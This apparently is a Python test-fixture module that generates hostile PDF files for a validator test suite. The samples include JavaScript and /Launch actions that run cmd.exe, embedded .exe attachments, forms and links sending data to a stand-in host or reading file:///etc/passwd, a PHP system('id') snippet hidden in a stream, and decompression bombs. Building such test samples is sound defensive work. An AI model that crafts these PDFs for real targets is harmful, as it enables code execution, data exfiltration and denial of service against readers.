"""PDF files that act, hide, or are too much (A39, A41)."""

from __future__ import annotations

import io
import re
import zlib
from collections.abc import Iterator

import pikepdf

from tests.files import built, pdf
from tests.hostile.files import Hostile, archive, cut_short, hung_on
from tests.hostile.jpegs import jpeg, sized

TYPE = "application/pdf"
PAGES = (
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>",
)

# name -> (the object, where it hangs, what it is refused as). A word that begins with / hangs in the catalogue; else it is an annotation.
ACTIVE: dict[str, tuple[bytes, str, str]] = {
    "open script": (b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>", "/OpenAction", "script"),
    "script in a stream": (b"<< /S /JavaScript /JS 5 0 R >>", "/OpenAction", "script"),
    "named script": (b"<< /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>", "/Names", "script"),
    "script in a field": (b"<< /Subtype /Widget /AA << /K << /S /JavaScript /JS (x) >> >> >>", "annotation", "script"),
    "script behind a chain": (b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >>", "/OpenAction", "script"),
    "program": (b"<< /S /Launch /F (cmd.exe) >>", "/OpenAction", "launch"),
    "program on a link": (b"<< /Subtype /Link /A << /S /Launch /Win << /F (cmd.exe) >> >> >>", "annotation", "launch"),
    "program, its kind elsewhere": (b"<< /Subtype /Link /A << /S 6 0 R /Win 7 0 R >> >>", "annotation", "launch"),
    "program behind a chain, its kind elsewhere": (b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S 6 0 R /Win 7 0 R >> >>", "/OpenAction", "launch"),
    "program by its parts alone": (b"<< /Subtype /Link /A << /S /Mulai /Unix 7 0 R >> >>", "annotation", "launch"),
    "attachment": (b"<< /EmbeddedFiles << /Names [(a) << /F (a.exe) /EF << /F 5 0 R >> >>] >> >>", "/Names", "embedded"),
    "attachment on a page": (b"<< /Subtype /FileAttachment /FS << /F (a) /EF << /F 5 0 R >> >> >>", "annotation", "embedded"),
    "portfolio": (b"<< /View /T >>", "/Collection", "embedded"),
    "into an attachment": (b"<< /S /GoToE /T << /R /C /N (a) >> >>", "/OpenAction", "embedded"),
    "XFA": (b"<< /Fields [] /XFA 5 0 R >>", "/AcroForm", "xfa"),
    "XFA in parts": (b"<< /Fields [] /XFA [(template) 5 0 R] >>", "/AcroForm", "xfa"),
    "rich media": (b"<< /Subtype /RichMedia /RichMediaContent << >> >>", "annotation", "media"),
    "screen": (b"<< /Subtype /Screen /A << /S /Rendition >> >>", "annotation", "media"),
    "movie": (b"<< /Subtype /Movie /Movie << /F (a.avi) >> >>", "annotation", "media"),
    "sound": (b"<< /Subtype /Sound /Sound 5 0 R >>", "annotation", "media"),
    "three dimensions": (b"<< /Subtype /3D /3DD 5 0 R >>", "annotation", "media"),
    "form that sends itself": (b"<< /S /SubmitForm /F (http://jahat.example/) >>", "/OpenAction", "action"),
    "form data from outside": (b"<< /Subtype /Link /A << /S /ImportData /F (a.fdf) >> >>", "annotation", "action"),
    "another file": (b"<< /Subtype /Link /A << /S /GoToR /F (\\\\\\\\host\\\\share) >> >>", "annotation", "action"),
    "a thread of another file": (b"<< /Subtype /Link /A << /S /Thread /D 0 /F (\\\\\\\\host\\\\share) >> >>", "annotation", "action"),
    "addresses below a folder": (b"<< /Base (file:///) >>", "/URI", "action"),
    "address at once": (b"<< /S /URI /URI (http://jahat.example/) >>", "/OpenAction", "action"),
    "address that is a script": (b"<< /Subtype /Link /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>", "annotation", "action"),
    "address of a file": (b"<< /Subtype /Link /A << /S /URI /URI (file:///etc/passwd) >> >>", "annotation", "action"),
    "address on closing": (b"<< /WC << /S /URI /URI (http://jahat.example/) >> >>", "/AA", "action"),
    "address on turning": (b"<< /Subtype /Widget /AA << /PO << /S /URI /URI (http://x.example) >> >> >>", "annotation", "action"),
}  # fmt: skip


def _one(name: str, content: bytes, *words: str) -> Hostile:
    return Hostile(f"pdf {name}", TYPE, content, frozenset(words))


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), entries, content)


def holding(thing: bytes, place: str) -> list[bytes]:
    """Objects of a paper with ``thing`` as number 4, a stream as number 5, and what an action may keep elsewhere as 6 and 7."""
    catalogue = b"<< /Type /Catalog /Pages 2 0 R %s >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> %s >>"
    if place == "annotation":
        hung, on_page = b"", b"/Annots [4 0 R]"
    else:
        hung, on_page = place.encode() + b" 4 0 R", b""
    elsewhere = [b"/Launch", b"<< /F (cmd.exe) /P (/c calc) >>"]
    return [catalogue % hung, PAGES[0], page % on_page, thing, stream(b"app.alert(1)"), *elsewhere]


def escaped(content: bytes) -> bytes:
    """Every name with its second letter written as a number: /J#61vaScript."""
    return re.sub(rb"/([A-Z])([A-Za-z])(?=[A-Za-z]*)", lambda m: b"/%s#%02x" % (m[1], m[2][0]), content)


def saved(content: bytes, **how: object) -> bytes:
    """Written anew by qpdf."""
    file = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as document:
        document.save(file, **how)  # type: ignore[arg-type]
    return file.getvalue()


def revised(content: bytes, number: int, replaced: bytes) -> bytes:
    """A later revision in which object ``number`` is another one."""
    before = int(content.rsplit(b"startxref", 1)[1].split()[0])
    place = len(content)
    added = b"%d 0 obj\n%s\nendobj\n" % (number, replaced)
    objects = int(content.rsplit(b"/Size", 1)[1].split()[0])
    table = b"xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root 1 0 R /Prev %d >>\n" % (
        number,
        place,
        objects,
        before,
    )
    return content + added + table + b"startxref\n%d\n%%%%EOF\n" % (place + len(added))


def pdfs() -> Iterator[Hostile]:
    plain = pdf(b"x" * 2_000)
    packed = saved(plain, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    yield from cut_short("pdf", TYPE, plain)
    yield from cut_short("packed pdf", TYPE, packed)
    yield from hung_on("pdf", TYPE, plain)
    yield from _active()
    yield from _encrypted(plain)
    yield from _disguised(plain)
    yield from _structure(plain)
    yield from _heavy()
    yield from _drawn_without_end()
    yield from _no_sheets()


def _active() -> Iterator[Hostile]:
    for name, (thing, place, word) in ACTIVE.items():
        objects = holding(thing, place)
        plain = built(objects)
        yield _one(name, plain, word)
        yield _one(f"{name}, names escaped", built([*objects[:3], escaped(thing), *objects[4:]]), word)
        packed = saved(plain, object_stream_mode=pikepdf.ObjectStreamMode.generate)
        yield _one(f"{name}, in an object stream", packed, word)
        yield _one(f"{name}, linearized", saved(plain, linearize=True), word)
        yield _one(f"{name}, taken back later", revised(plain, 4, b"null"), word)
    outside = [b"<< /Type /Catalog /Pages 2 0 R /Metadata 4 0 R >>", *PAGES]
    for entries in (b"/F (http://jahat.example/a)", b"/F << /F (a) >> /FFilter /FlateDecode"):
        yield _one("content from outside", built([*outside, stream(b"", entries)]), "external")


def _encrypted(plain: bytes) -> Iterator[Hostile]:
    for revision in (2, 3, 4, 6):
        for user in ("", "rahasia"):
            lock = pikepdf.Encryption(
                owner="pemilik", user=user, R=revision, aes=revision >= 4, metadata=revision >= 4
            )
            yield _one(f"encrypted {revision} {user}", saved(plain, encryption=lock), "encrypted")


def _disguised(plain: bytes) -> Iterator[Hostile]:
    for name, text in {
        "php": b"<?php system('id');",
        "script": b"<script>alert(1)</script>",
        "program": b"MZ\x90\x00 This program cannot be run in DOS mode",
        "7z": b"7z\xbc\xaf\x27\x1c",
        "zip": archive(),
    }.items():
        yield _one(f"with {name} in a stream", pdf(text), "disguised")
    for name, text in {"html": b"<html><body>", "doctype": b"<!doctype html>", "shell": b"#!/bin/sh"}.items():
        yield _one(
            f"with {name} in a comment", built([*_good()], header=b"%PDF-1.7\n%" + text + b"\n"), "disguised"
        )
    for name, text in {"text": b"hidden\n", "zip": archive(), "html": b"<html></html>\n"}.items():
        between = plain + text
        later = revised(between, 4, b"null")
        yield _one(f"{name} between revisions", later, "disguised", "broken")
    for name, text in {
        "text": b"x",
        "html": b"<html>",
        "picture": b"\xff\xd8\xff\xe0",
        "newline": b"\n",
    }.items():
        yield _one(f"{name} before it", text + plain, "broken")
    yield _one("tar", built([*_good()], header=b"%PDF-1.7\n%" + b"x" * 247 + b"ustar\n"), "disguised")
    yield _disc()


def _disc() -> Hostile:
    """The mark of an ISO 9660 disc at its place."""
    for filler in range(32_000, 33_000):
        made = pdf(bytes(filler) + b"CD001")
        if made[32_769:32_774] == b"CD001":
            return _one("disc", made, "disguised")
    raise AssertionError


def _good() -> list[bytes]:
    return [b"<< /Type /Catalog /Pages 2 0 R >>", *PAGES]


def _structure(plain: bytes) -> Iterator[Hostile]:
    yield _one("a version of the future", plain.replace(b"%PDF-1.7", b"%PDF-9.7"), "broken")
    yield _one("no end", plain.replace(b"%%EOF", b"     "), "broken")
    yield _one("a table elsewhere", plain.replace(b"startxref\n", b"startxref\n9"), "broken")
    yield _one("no catalogue", built(_good(), trailer=b""), "broken")
    yield _one("a catalogue that is a number", built([b"1", *PAGES]), "broken")
    yield _one(
        "no pages",
        built([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]),
        "broken",
    )
    yield _one(
        "a tree that bites its tail",
        built([_good()[0], b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"]),
        "broken",
    )
    deep = b"".join(b"<< /A " for _ in range(20_000)) + b"1" + b" >>" * 20_000
    for name, thing in {
        "arrays": b"[" * 100_000 + b"]" * 100_000,
        "dictionaries": deep,
        "open arrays": b"[" * 200_000,
    }.items():
        yield _one(f"deep {name}", built([*_good(), thing]), "broken", "too_heavy")
    end = plain.index(b"xref\n0")
    loop = plain.replace(b"/Root 1 0 R", b"/Prev %d /Root 1 0 R" % end)
    yield _one("a table before itself", loop, "broken")
    yield _one(
        "a stream whose length is itself",
        built([*_good(), b"<< /Length 4 0 R >>\nstream\nx\nendstream"]),
        "broken",
    )
    yield _one("a stream without an end", built([*_good(), b"<< /Length 99999 >>\nstream\nx"]), "broken")
    yield _one("a filter that nobody has", built([*_good(), stream(b"x", b"/Filter /Jahat")]), "broken")
    yield _one(
        "noise for content", built([*_good(), stream(b"\xff" * 90, b"/Filter /FlateDecode")]), "broken"
    )
    half = zlib.compress(bytes(range(256)) * 40)[:100]
    yield _one("half of a content", built([*_good(), stream(half, b"/Filter /FlateDecode")]), "broken")


def _heavy() -> Iterator[Hostile]:
    gigabyte = zlib.compressobj(9)
    zeros = b"".join(gigabyte.compress(bytes(2**20)) for _ in range(1_000)) + gigabyte.flush()
    flate = stream(zeros, b"/Filter /FlateDecode")
    twice = zlib.compress(zeros, 9)
    yield _one("a bomb", built([*_good(), flate]), "too_heavy")
    yield _one(
        "a bomb in a bomb",
        built([*_good(), stream(twice, b"/Filter [/FlateDecode /FlateDecode]")]),
        "too_heavy",
    )
    ten = stream(zlib.compress(bytes(100 * 2**20), 9), b"/Filter /FlateDecode")
    yield _one("ten bombs", built([*_good(), *[ten] * 10]), "too_heavy")
    many = [b"/FlateDecode"] * 40
    yield _one(
        "forty filters",
        built([*_good(), stream(twice, b"/Filter [%s]" % b" ".join(many))]),
        "too_heavy",
        "broken",
    )
    run = stream(b"\x81x" * 4_000_000 + b"\x80", b"/Filter /RunLengthDecode")
    yield _one("runs", built([*_good(), run]), "too_heavy", "broken")
    hexed = stream(zeros.hex().encode() + b">", b"/Filter [/ASCIIHexDecode /FlateDecode]")
    yield _one("a bomb in letters", built([*_good(), hexed]), "too_heavy", "broken")
    image = (
        b"/Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode"
    )
    yield _one("a flood", built([*_good(), stream(jpeg(), image % (50_000, 50_000))]), "pixels")
    yield _one(
        "a flood inside", built([*_good(), stream(sized(jpeg(), 60_000, 60_000), image % (96, 64))]), "pixels"
    )
    yield _one(
        "a hundred thousand pages by its word",
        built([_good()[0], PAGES[0].replace(b"1", b"100000"), PAGES[1]]),
        "pages",
    )
    page = PAGES[1]
    for count in (51, 2_000):
        kids = b" ".join(b"%d 0 R" % number for number in range(3, count + 3))
        tree = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)
        yield _one(f"{count} pages", built([_good()[0], tree, *[page] * count]), "pages")
        lying = b"<< /Type /Pages /Kids [%s] /Count 1 >>" % kids
        yield _one(
            f"{count} pages that say 1", built([_good()[0], lying, *[page] * count]), "pages", "broken"
        )
    yield _one("a hundred and ten thousand objects", built([*_good(), *[b"null"] * 110_000]), "too_heavy")
    yield _one(
        "an array without measure", built([*_good(), b"[" + b"0 " * 2_000_000 + b"]"]), "too_heavy", "broken"
    )


def drawing(things: dict[str, bytes], content: bytes, page: bytes = b"") -> bytes:
    """One page that says ``content``; each of ``things`` is an object, and @name in them all is the reference to another."""
    places = {name: b"%d 0 R" % number for number, name in enumerate(things, 5)}

    def told(text: bytes) -> bytes:
        return re.sub(rb"@(\w+)", lambda named: places[named[1].decode()], text)

    sheet = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R %s >>" % told(page)
    objects = [_good()[0], PAGES[0], sheet, stream(content), *(told(thing) for thing in things.values())]
    return built(objects)


FORM = b"/Type /XObject /Subtype /Form /BBox [0 0 300 300] "


def _drawn_without_end() -> Iterator[Hostile]:
    """A41: little to read, and nobody who draws it ever comes to the end."""
    first = b"/Resources << /XObject << /X @f0 /Y @f0 >> >>"

    def chain(
        content: bytes, entries: bytes = FORM + b"/Resources << /XObject << /X @f%d >> >>"
    ) -> dict[str, bytes]:
        forms = {f"f{n}": stream(content, entries.replace(b"%d", b"%d" % (n + 1))) for n in range(25)}
        return forms | {"f25": stream(b"0 0 1 1 re f", FORM)}

    twice = b"/X Do /X Do"
    yield _one("forms of forms", drawing(chain(twice), b"/X Do", first), "too_heavy")
    escaped_too = drawing(chain(b"/#58 %/Y\nDo/X 1 Do"), b"/X Do", first)
    yield _one("forms of forms, written otherwise", escaped_too, "too_heavy")
    every = b"/Resources << /XObject << %s >> >>" % b" ".join(b"/X%d @f%d" % (n, n) for n in range(26))
    names = {f"f{n}": stream(b"/X%d Do /X%d Do" % (n + 1, n + 1), FORM) for n in range(25)}
    names["f25"] = stream(b"0 0 1 1 re f", FORM)
    yield _one("forms by the names of their page", drawing(names, b"/X0 Do", every), "too_heavy")
    looks = b"/Annots [<< /Subtype /Stamp /Rect [0 0 9 9] /AP << /N << /On @f0 >> >> >>]"
    yield _one("forms of forms that a stamp shows", drawing(chain(twice), b"", looks), "too_heavy")
    tiled = (
        FORM
        + b"/PatternType 1 /PaintType 1 /TilingType 1 /XStep 9 /YStep 9 /Resources << /Pattern << /P @f%d >> >>"
    )
    filled = b"/Pattern cs /P scn 0 0 9 9 re f 9 9 9 9 re f"
    tiles = b"/Resources << /Pattern << /P @f0 >> >>"
    yield _one("patterns of patterns", drawing(chain(filled, tiled), filled, tiles), "too_heavy")
    masked = FORM + b"/Resources << /ExtGState << /G << /SMask << /S /Luminosity /G @f%d >> >> >> >>"
    under = b"/G gs 0 0 9 9 re f 9 9 9 9 re f"
    masks = b"/Resources << /ExtGState << /G << /SMask << /S /Luminosity /G @f0 >> >> >> >>"
    yield _one("masks of masks", drawing(chain(under, masked), under, masks), "too_heavy")
    outside = chain(b"0 0 1 1 re f " * 300, FORM) | {
        "inner": stream(b"0 0 1 1 re f " * 50_000, FORM + b"/PatternType 1")
    }
    set_outside = b"/Resources << /XObject << /X @f0 >> /Pattern << /P @inner >> >>"
    yield _one(
        "a pattern set outside of the form",
        drawing(outside, b"/P scn " + b"/X Do " * 9, set_outside),
        "too_heavy",
    )
    letters = (
        b"<< /Type /Font /Subtype /Type3 /CharProcs << /a @f0 >> /Resources << /XObject << /X @f1 >> >> >>"
    )
    glyphs = chain(b"/X Do " * 9) | {"f0": stream(b"/X Do"), "f6": stream(b"f", FORM), "font": letters}
    shown = b"BT /F 9 Tf (%s) Tj ET" % (b"a" * 200)
    yield _one(
        "letters of forms", drawing(glyphs, shown, b"/Resources << /Font << /F @font >> >>"), "too_heavy"
    )
    large = {"f0": stream(zlib.compress(b"0 0 1 1 re f " * 1_000_000, 9), FORM + b"/Filter /FlateDecode")}
    yield _one("a large form again and again", drawing(large, b"/X Do " * 100, first), "too_heavy")
    full = stream(b"0 0 300 300 re f " * 60_000, FORM)
    yield _one("a page painted a million times", drawing({"f0": full}, b"/X Do " * 20, first), "too_heavy")
    itself = {"f0": stream(b"/Y Do", FORM + first), "other": b"null"}
    yield _one("a form of itself", drawing(itself, b"/X Do", first), "too_heavy")


def _no_sheets() -> Iterator[Hostile]:
    """Nothing to be seen, or more than any sheet: no copy could be made of it. (What is no box at all, qpdf remarks on.)"""
    for name, boxes in {
        "nothing": b"/MediaBox [0 0 0 0]",
        "a speck": b"/MediaBox [0 0 300 3]",
        "a field": b"/MediaBox [0 0 300 14401]",
        "letters": b"/MediaBox [(a) (b) (c) (d)]",
        "three sides": b"/MediaBox [0 0 300]",
        "no box": b"",
        "a crop of letters": b"/MediaBox [0 0 300 300] /CropBox [(a) (b) (c) (d)]",
        "a crop that is a name": b"/MediaBox [0 0 300 300] /CropBox /Semua",
        "a crop outside": b"/MediaBox [0 0 300 300] /CropBox [5000 5000 6000 6000]",
        "a crop of a line": b"/MediaBox [0 0 300 300] /CropBox [0 0 300 1]",
    }.items():
        page = b"<< /Type /Page /Parent 2 0 R /Resources << >> %s >>" % boxes
        yield _one(f"page: {name}", built([_good()[0], PAGES[0], page]), "page_size", "broken")
